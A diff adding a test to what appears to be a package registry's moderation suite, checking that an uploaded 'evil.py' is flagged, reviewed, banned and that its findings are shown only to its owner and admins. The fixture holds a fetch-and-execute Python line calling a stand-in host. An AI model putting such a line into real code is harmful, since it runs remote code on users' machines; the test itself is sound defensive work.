@@ -70,6 +70,43 @@ test('a withdrawn version can be banned, and so can one of a withdrawn node', as
   }
 })
 
+const findingsIn = (version: object): Record<string, unknown>[] =>
+  'findings' in version ? (version.findings as Record<string, unknown>[]) : []
+
+test('an owner reads the decision on a review, and what it is about: no release, then a ban', async () => {
+  const evil = `import requests\nexec(requests.get("https://x.example/${unique('x')}").text)\n`
+  const sent = await send(packOf(unique('Evil'), { 'evil.py': evil }))
+  assert.equal(sent.status, FLAGGED)
+  const review = () => owner.post(`${sent.ownVersion}/review`, {})
+  const place = {
+    issue_type: 'exec-network',
+    severity: 'high',
+    file_path: 'evil.py',
+    line_number: 2,
+  }
+  const decisions: unknown[] = []
+  for (const status of [FLAGGED, BANNED]) {
+    expectStatus(await review(), 201)
+    const unchanged = await owner.get(sent.version)
+    expectStatus(await set(sent.version, status, `no: ${status}`), 200)
+    const etag = unchanged.headers.get('etag') ?? ''
+    const { body } = expectStatus(await owner.get(sent.version, { 'if-none-match': etag }), 200)
+    assert.deepEqual([body['status'], body['status_reason']], [status, `no: ${status}`])
+    const [{ message, ...finding } = {}, ...others] = findingsIn(body)
+    assert.match(String(message), /^Code from the network is run/)
+    assert.deepEqual([finding, others], [place, []])
+    decisions.unshift({ status, reason: `no: ${status}` })
+    const found = await owner.get(`${sent.version}/findings`)
+    assert.deepEqual(pluck(listOf(found, 'reviews'), 'decision'), decisions)
+    const seen = await anonymous.get(sent.version, {
+      'if-none-match': (await owner.get(sent.version)).headers.get('etag') ?? '',
+    })
+    assert.ok(!('findings' in expectStatus(seen, 200).body), 'strangers see none')
+  }
+  for (const client of [admin, other.owner])
+    assert.equal('findings' in (await client.get(sent.version)).body, client === admin)
+})
+
 test('what nobody could have is not banned once it is deleted', async () => {
   const { version, ownVersion } = await owned.addVersion()
   expectStatus(await owner.delete(ownVersion), 204)
